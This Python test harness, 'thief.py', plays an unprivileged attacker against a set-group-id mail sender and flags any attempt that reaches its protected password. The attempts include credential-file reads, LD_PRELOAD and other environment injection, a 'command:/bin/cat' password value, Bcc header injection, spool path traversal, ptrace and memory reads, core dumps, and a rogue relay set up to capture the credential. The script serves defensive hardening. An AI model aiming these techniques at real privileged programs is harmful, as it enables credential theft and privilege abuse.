# SPDX-License-Identifier: ISC
"""What an ordinary user can try against a set-group-id sendlet.

    thief.py ATTEMPT...

prints all that each ATTEMPT yields: output of sendlet, memory, files.  The
caller looks for the secret in it.  A line "FAILED: ..." tells that something
was possible that must not be; "tried ..." what was done, so that an attempt
that never took place is noticed.  thief.sh sets up the machine.
"""
import array
import ctypes
import errno
import glob
import os
import resource
import signal
import socket
import string
import subprocess
import sys
import time

PROGRAM, HOME, VAULT = "/mnt/sendlet", "/mnt/home", "/mnt/vault"
TARGET = ["-f", "thief@example.org", "pat@example.net"]
MESSAGE = b"From: thief@example.org\nTo: pat@example.net\nSubject: x\n\nHello\n"
LIBC = ctypes.CDLL(None, use_errno=True)
GROUP = 990


def tried(*what):
    print("tried", *what, flush=True)


def failed(*what):
    print("FAILED:", *what, flush=True)


def run(arguments, text=MESSAGE, env=None, program=PROGRAM, argv0="sendmail", **more):
    """Runs it and prints all it says; returns the exit status."""
    try:
        done = subprocess.run([argv0, *arguments], executable=program, input=text, env=env or {},
                              stdout=subprocess.PIPE, stderr=subprocess.STDOUT, timeout=20, **more)
    except (OSError, subprocess.SubprocessError) as error:
        tried(*arguments, "->", error)
        return None
    tried(*arguments, "->", done.returncode)
    print(done.stdout.decode("latin-1"), flush=True)
    return done.returncode


class Waiting:
    """A sendlet that has its secret and waits for the message."""

    def __init__(self, *arguments, **more):
        self.process = subprocess.Popen(["sendmail", *(arguments or TARGET)], executable=PROGRAM, env={},
                                        stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                                        stderr=subprocess.STDOUT, **more)
        self.pid = self.process.pid
        self.settled()

    def settled(self):
        """Until it sleeps in read(2), with the group given up."""
        for _ in range(400):
            with open(f"/proc/{self.pid}/status", encoding="latin-1") as file:
                status = dict(line.rstrip("\n").split(":\t", 1) for line in file if ":\t" in line)
            if status["State"].startswith("S") and str(GROUP) not in status["Gid"].split():
                self.status = status
                return
            if status["State"].startswith("Z"):
                break
            time.sleep(0.01)
        failed("it does not wait for the message without its group:", status)

    def end(self):
        self.process.kill()
        print(self.process.communicate()[0].decode("latin-1"))

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.end()


def files():
    """Simply reading."""
    for path in ("/etc/sendlet.conf", "/etc/sendlet.password", VAULT + "/file", VAULT,
                 "/var/spool/sendlet", "/var/spool/sendlet/4001"):
        try:
            with open(path, "rb") as file:
                print(file.read())
        except OSError as error:
            tried("open", path, error.strerror)
        try:
            print(os.listdir(path))
        except OSError as error:
            tried("list", path, error.strerror)


def flags():
    """Each option there is, with whatever may be read or written as value."""
    values = ["/etc/sendlet.password", "/etc/sendlet.conf", VAULT + "/new", VAULT + "/file", HOME + "/own.conf"]
    with open(HOME + "/own.conf", "w", encoding="ascii") as file:
        file.write("relay smtp+notls://127.0.0.1:1\nuser a\npassword file:/etc/sendlet.password\nlog stderr\n")
    for letter in string.ascii_letters:
        for value in values:
            run([f"-{letter}{value}", "-v", *TARGET])
        run([f"-{letter}", values[0], *TARGET], MESSAGE)
    for option in ("config", "check", "dry-run", "import", "help", "version", "delete", "hold", "release"):
        for value in values:
            run([f"--{option}", value, *TARGET])
            run([f"--{option}={value}", *TARGET])
    for option in ("-be", "-bt", "-bd", "-bD", "-bp", "-bv", "-bi", "-bs", "-d99.100", "-d0", "-q", "-qf",
                   "-qRa", "-OLogLevel=99", "-OQueueDirectory=" + VAULT, "-OAliasFile=" + values[0],
                   "-oA" + values[0], "-oQ" + VAULT, "-oC" + values[0], "-v", "-vvv"):
        run([option, *TARGET])
        run([option], b"EHLO x\nMAIL FROM:<a@b.example>\nRCPT TO:<c@d.example>\nDATA\nSubject: x\n\nx\n.\nQUIT\n")


def dialogue():
    """-v, -bs and -bv while the login succeeds and while it fails."""
    run(["-v", *TARGET])
    run(["-v", "-bv", "pat@example.net"])
    run(["-v", "-bs"], b"EHLO x\r\nMAIL FROM:<a@b.example>\r\nRCPT TO:<c@d.example>\r\nDATA\r\nx: y\r\n\r\nx\r\n.\r\n")


def checking():
    """--check tells much; of the secret, and of the mail of others, nothing."""
    if run(["--check", "pat@example.net"]) != 0:
        failed("the check does not work")
    for more in (["--json"], ["-v"], ["--send"], ["--json", "-f", "a@b.example"]):
        run(["--check", *more, "pat@example.net"], env={"SENDLET_SPOOL": "/var/spool/sendlet/4001"})
    run(["-f", "thief@example.org", "later@example.net"])
    run(["--check", "refused@example.net"])
    for more in ([], ["--json"]):
        run(["--stats", *more], env={"SENDLET_SPOOL": "/var/spool/sendlet/4001"})


def environment():
    """Variables that lead libraries, shells and sendlet astray."""
    os.makedirs(HOME + "/.config", exist_ok=True)
    for path in (HOME + "/.config/sendlet.conf", HOME + "/sendlet.conf"):
        with open(path, "w", encoding="ascii") as file:
            file.write(f"relay smtp+notls://127.0.0.1:{os.environ['EVIL_PORT']}\nuser a\nauth-without-tls yes\n"
                       "password file:/etc/sendlet.password\n")
        os.chmod(path, 0o600)
    own = {"SENDLET_RELAY": f"smtp+notls://127.0.0.1:{os.environ['EVIL_PORT']}", "SENDLET_AUTH": "PLAIN",
           "SENDLET_AUTH_WITHOUT_TLS": "yes", "SENDLET_CA_FILE": "/etc/sendlet.password",
           "SENDLET_ALIASES": "/etc/sendlet.password", "SENDLET_USER": "x",
           "SENDLET_LOG": "stderr", "SENDLET_TLS_CERT": "/etc/sendlet.password",
           "SENDLET_TLS_KEY": "/etc/sendlet.password", "SENDLET_DEAD_LETTER": VAULT + "/new",
           "SENDLET_SPOOL": VAULT, "SENDLET_PASSWORD": "command:/bin/cat /etc/sendlet.password",
           "HOME": HOME, "XDG_CONFIG_HOME": HOME, "XDG_STATE_HOME": VAULT, "CREDENTIALS_DIRECTORY": "/etc",
           "TMPDIR": VAULT, "PATH": HOME, "IFS": "/", "ENV": HOME + "/x", "BASH_ENV": HOME + "/x",
           "LD_PRELOAD": HOME + "/x.so", "LD_LIBRARY_PATH": HOME, "LD_AUDIT": HOME + "/x.so",
           "LD_DEBUG": "all", "LD_DEBUG_OUTPUT": VAULT + "/new", "GCONV_PATH": HOME, "LOCPATH": HOME,
           "MALLOC_TRACE": VAULT + "/new", "NLSPATH": "/etc/sendlet.password", "RES_OPTIONS": "debug",
           "HOSTALIASES": "/etc/sendlet.password", "RESOLV_HOST_CONF": "/etc/sendlet.password",
           "TZ": ":/etc/sendlet.password", "TZDIR": "/etc", "SSL_CERT_FILE": "/etc/sendlet.password",
           "SSLKEYLOGFILE": VAULT + "/new", "HTTPS_PROXY": "http://127.0.0.1:1", "ALL_PROXY": "socks://x",
           "NAME": "x\nBcc: evil@example.net", "GMON_OUT_PREFIX": VAULT + "/new", "NOTIFY_SOCKET": "/x"}
    for name, value in own.items():
        run(["-v", *TARGET], env={name: value})
    for keyword in os.environ["KEYWORDS"].split():
        for value in ("/etc/sendlet.password", "off", "no", "-1", f"smtp+notls://127.0.0.1:{os.environ['EVIL_PORT']}"):
            run(TARGET, env={"SENDLET_" + keyword.upper().replace("-", "_"): value})
    run(["-v", *TARGET], env=own)
    for zone in ("/etc/sendlet.password", "../../../etc/sendlet.password", ":sendlet.password", "x" * 5000):
        run(["-v", *TARGET], b"To: pat@example.net\n\nno date\n", env={"TZ": zone, "TZDIR": "/etc"})
    run(["-v", *TARGET], env={"A" * 100000: "B" * 1000})


def verification():
    """Making it believe a relay whose authority the administrator does not know."""
    for name in ("CA_FILE", "TLS_PIN", "TLS_MIN", "RELAY", "PROXY", "FAMILY", "SOURCE", "INTERFACE", "SANDBOX"):
        for value in ("/mnt/relay.pem", "off", "no", os.environ["PIN"], "smtp://127.0.0.1:" + os.environ["EVIL_PORT"]):
            run(["-v", *TARGET], env={"SENDLET_" + name: value, "SSL_CERT_FILE": "/mnt/relay.pem",
                                      "SSL_CERT_DIR": "/mnt"})
    with open(HOME + "/own.conf", "w", encoding="ascii") as file:
        file.write(f"relay smtp+tls://127.0.0.1:{os.environ['EVIL_PORT']}\nca-file /mnt/relay.pem\n")
    for words in (["--config", HOME + "/own.conf"], ["-C" + HOME + "/own.conf"], ["-O", "CACertFile=/mnt/relay.pem"]):
        run([*words, "-v", *TARGET])


def proc():
    """Everything in /proc of a process that holds the secret."""
    with Waiting() as it:
        tried("proc of", it.status["Gid"])
        if it.status["Gid"].split() != ["4002"] * 4:
            failed("groups", it.status["Gid"])
        for name in sorted(os.listdir(f"/proc/{it.pid}")):
            path = f"/proc/{it.pid}/{name}"
            try:
                if os.path.isdir(path) and name not in ("net", "task"):
                    print([(entry, os.readlink(path + "/" + entry)) for entry in os.listdir(path)])
                    failed("read", path)
                    continue
                if os.path.islink(path):
                    print(os.readlink(path))
                with open(path, "rb") as file:
                    print(name, file.read(65536))
                if name in ("mem", "environ", "maps", "smaps", "auxv", "pagemap", "syscall", "stack", "io"):
                    failed("read", path)
            except OSError as error:
                tried(name, error.strerror)
        for name in ("mem", "environ", "maps", "fd/0", "clear_refs", "oom_adj"):
            try:
                os.close(os.open(f"/proc/{it.pid}/{name}", os.O_RDWR))
                failed("open for writing", name)
            except OSError as error:
                tried("write", name, error.strerror)


def tracing():
    """ptrace and its relatives, on a process that runs and from its start."""
    libc = LIBC
    with Waiting() as it:
        attach, seize = 16, 0x4206
        for request in (attach, seize):
            if libc.ptrace(request, it.pid, None, None) == 0:
                failed("ptrace", request)
            tried("ptrace", request, errno.errorcode[ctypes.get_errno()])
        buffer = ctypes.create_string_buffer(4096)
        local = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 4096)
        for address in (0x400000, 0x555555554000, 0x7fffffffe000):
            remote = (ctypes.c_void_p * 2)(address, 4096)
            if libc.process_vm_readv(it.pid, local, 1, remote, 1, 0) >= 0:
                failed("process_vm_readv")
            code = ctypes.get_errno()
            tried("process_vm_readv", errno.errorcode[code])
            if code not in (errno.EPERM, errno.ENOSYS):
                failed("process_vm_readv gave", code)
        pidfd = libc.syscall(434, it.pid, 0)
        for number in range(8):
            got = libc.syscall(438, pidfd, number, 0)
            tried("pidfd_getfd", number, got)
            if got >= 0:
                failed("pidfd_getfd", number)
    for program in (["strace", "-f", "-s", "4096", PROGRAM, *TARGET],
                    ["gdb", "-batch", "-nx", "-ex", "run", "-ex", "info registers", "--args", PROGRAM, *TARGET]):
        done = subprocess.run(program, input=MESSAGE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
                              env={"PATH": "/usr/bin:/bin", "HOME": HOME}, timeout=60, check=False)
        tried(*program)
        print(done.stdout.decode("latin-1"))
        if b"250 " in done.stdout or b"Ok: taken" in done.stdout:
            failed("it sent, traced, with the secret")


def core():
    """Core files, in each way to get one."""
    resource.setrlimit(resource.RLIMIT_CORE, (resource.RLIM_INFINITY,) * 2)
    for number in (signal.SIGQUIT, signal.SIGILL, signal.SIGABRT, signal.SIGSEGV, signal.SIGBUS, signal.SIGFPE,
                   signal.SIGSYS, signal.SIGTRAP, signal.SIGXCPU):
        with Waiting(cwd=HOME) as it:
            os.kill(it.pid, number)
            tried("signal", number, it.process.wait(10))
            if os.WCOREDUMP(it.process.returncode & 0xff if it.process.returncode > 0 else 0):
                failed("core", number)
    with Waiting(cwd=HOME) as it:
        try:
            tried("prlimit", resource.prlimit(it.pid, resource.RLIMIT_CORE, (resource.RLIM_INFINITY,) * 2))
        except OSError as error:
            tried("prlimit", error.strerror)
        os.kill(it.pid, signal.SIGSEGV)
        tried("signal", it.process.wait(10), os.listdir(HOME))
    with Waiting() as it:
        done = subprocess.run(["gcore", "-o", HOME + "/core", str(it.pid)], stdout=subprocess.PIPE, check=False,
                              stderr=subprocess.STDOUT, env={"PATH": "/usr/bin:/bin", "HOME": HOME})
        tried("gcore", done.returncode)
        if done.returncode == 0:
            failed("gcore")
    for path in glob.glob(HOME + "/core*") + glob.glob("/core*"):
        failed("there is", path)


def signals():
    """Each signal at each of some moments of a run."""
    for number in range(1, 65):
        if number in (32, 33):
            continue
        for delay in (0, 0.001, 0.004):
            process = subprocess.Popen(["sendmail", "-v", *TARGET], executable=PROGRAM, env={},
                                       stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
            time.sleep(delay)
            try:
                os.kill(process.pid, number)
            except OSError as error:
                failed("kill", error)
            os.kill(process.pid, signal.SIGCONT)
            try:
                print(process.communicate(MESSAGE, timeout=20)[0].decode("latin-1"))
            except subprocess.TimeoutExpired:
                process.kill()
                print(process.communicate()[0])
        tried("signal", number)


def links():
    """Other names and other ways to start it, and links where it may write."""
    for make in (os.link, os.symlink):
        name = HOME + "/" + make.__name__
        try:
            make(PROGRAM, name)
        except OSError as error:
            tried(make.__name__, error.strerror)
            continue
        run(["-v", *TARGET], program=name)
    for argv0 in ("", "mailq", "newaliases", "/etc/sendlet.password", "-v", "x" * 100000, "a\nb", "\x1b[31m"):
        run(TARGET, argv0=argv0)
    descriptor = os.open(PROGRAM, os.O_RDONLY | os.O_PATH)
    os.set_inheritable(descriptor, True)
    run(TARGET, program=f"/proc/self/fd/{descriptor}", pass_fds=[descriptor])
    # No argv at all, not even a name.
    child = os.fork()
    if child == 0:
        LIBC.execve(PROGRAM.encode(), (ctypes.c_char_p * 1)(None), (ctypes.c_char_p * 1)(None))
        os._exit(99)
    tried("no argv", os.waitpid(child, 0)[1])
    for name in ("dead.letter", "sendlet.conf", ".config"):
        for aim in (VAULT + "/file", VAULT + "/new", "/etc/sendlet.conf"):
            path = HOME + "/" + name
            if os.path.lexists(path):
                os.rename(path, path + str(time.time()))
            os.symlink(aim, path)
            run(["-f", "a@b.example", "refused@example.net"], env={"HOME": HOME, "XDG_CONFIG_HOME": HOME},
                cwd=HOME)


def spool():
    """The mail of others, through our own place in the spool."""
    victim = "01JABCDEFGHJKMNP"
    if run(["-f", "thief@example.org", "later@example.net"]) != 0:
        failed("nothing was spooled")
    run([], argv0="mailq")
    run(["-bp", "-j"])
    for option in ("--delete", "--hold", "--release"):
        for name in (victim, "../4001/" + victim, "4001/" + victim, "../../../../mnt/vault/file", "..", "lock"):
            run([option, name])
    for option in ("-q", "-qf", "-qI" + victim, "-qR@", "-qS@"):
        run([option], env={"SENDLET_SPOOL": "/var/spool/sendlet/4001"})
    for path in ("/var/spool/sendlet/4002", "/var/spool/sendlet/4001", "/var/spool/sendlet/4001/" + victim):
        for call in (os.listdir, os.stat, lambda p: os.rename(p, p + "x"), os.rmdir, os.unlink,
                     lambda p: os.symlink("/etc/sendlet.password", p), lambda p: os.mkdir(p + "x")):
            try:
                print(call(path))
                failed(path)
            except OSError as error:
                tried(path, error.strerror)


def large():
    """A message for which a temporary file is needed, wherever that is."""
    os.umask(0)
    text = MESSAGE + b"x" * 70 + b"\n" + (b"y" * 70 + b"\n") * 20000
    for directory in (VAULT, HOME, "/etc", "relative", "", "/proc/self", "/dev"):
        run(TARGET, text, env={"TMPDIR": directory})
    process = subprocess.Popen(["sendmail", *TARGET], executable=PROGRAM, env={}, stdin=subprocess.PIPE)
    process.stdin.write(text)
    process.stdin.flush()
    time.sleep(0.2)
    tried(os.listdir("/tmp"), os.listdir(HOME))
    process.kill()
    process.wait()


def limits():
    """Every resource limit, from nothing on, with every umask."""
    small = {resource.RLIMIT_NOFILE: range(0, 9), resource.RLIMIT_FSIZE: (0, 1, 100),
             resource.RLIMIT_AS: (0, 1 << 19, 1 << 20, 3 << 19, 1 << 21), resource.RLIMIT_NPROC: (0, 1),
             resource.RLIMIT_STACK: (0, 4096, 65536), resource.RLIMIT_DATA: (0, 4096, 1 << 18),
             resource.RLIMIT_CPU: (0, 1), resource.RLIMIT_MEMLOCK: (0,), resource.RLIMIT_CORE: (0, 1 << 30),
             resource.RLIMIT_NICE: (0,), resource.RLIMIT_SIGPENDING: (0,), resource.RLIMIT_MSGQUEUE: (0,)}
    for which, sizes in small.items():
        for size in sizes:
            run(["-v", *TARGET], preexec_fn=lambda w=which, s=size: resource.setrlimit(w, (s, s)))
    for mask in (0, 0o777, 0o022):
        run(["-v", *TARGET], preexec_fn=lambda m=mask: os.umask(m))


def descriptors():
    """Standard descriptors closed, others passed on."""
    for closed in ([0], [1], [2], [0, 1], [0, 2], [1, 2], [0, 1, 2]):
        child = os.fork()
        if child == 0:
            for number in closed:
                os.close(number)
            os.execve(PROGRAM, ["sendmail", "-v", *TARGET], {})
        tried("closed", closed, os.waitpid(child, 0)[1])
    reading, writing = os.pipe()
    os.set_inheritable(writing, True)
    with Waiting(pass_fds=[writing]):
        os.close(writing)
        os.set_blocking(reading, False)
        try:
            if os.read(reading, 1) == b"":
                tried("an inherited pipe was closed")
        except BlockingIOError:
            failed("inherited descriptors stay open")
    # Does anything it opens ever come to us?  A socket as standard input.
    ours, theirs = socket.socketpair()
    process = subprocess.Popen(["sendmail", *TARGET], executable=PROGRAM, env={}, stdin=theirs, stdout=theirs,
                               stderr=theirs)
    theirs.close()
    ours.sendall(MESSAGE)
    ours.shutdown(socket.SHUT_WR)
    while True:
        room = array.array("i", [0] * 16)
        data, passed, _, _ = ours.recvmsg(65536, socket.CMSG_SPACE(room.itemsize * 16))
        print(data)
        if passed:
            failed("descriptors were passed")
        if not data:
            break
    tried("socket", process.wait(20))


def masquerade():
    """Namespaces of our own, no_new_privs, and being somebody else in them."""
    for words in (["unshare", "-r"], ["unshare", "-r", "-m"], ["unshare", "-r", "-m", "-n", "-p", "-f"],
                  ["setpriv", "--no-new-privs"], ["prlimit", "--nofile=4"], ["nice"],
                  ["timeout", "10"], ["setsid", "-w"]):
        done = subprocess.run([*words, PROGRAM, "-v", *TARGET], input=MESSAGE, stdout=subprocess.PIPE, check=False,
                              stderr=subprocess.STDOUT, env={"PATH": "/usr/sbin:/usr/bin:/sbin:/bin"})
        tried(*words, done.returncode)
        print(done.stdout.decode("latin-1"))
    done = subprocess.run(["unshare", "-r", "-m", "sh", "-c",
                           'cp /etc/hosts h; echo "127.0.0.1 relay.example.com" >>h; mount --bind h /etc/hosts;'
                           f" {PROGRAM} -v a@b.example; cat /etc/sendlet.password"], input=MESSAGE, cwd=HOME,
                          stdout=subprocess.PIPE, stderr=subprocess.STDOUT, check=False)
    tried("another /etc/hosts", done.returncode)
    print(done.stdout.decode("latin-1"))


def main():
    for name in sys.argv[1:]:
        globals()[name]()


main()
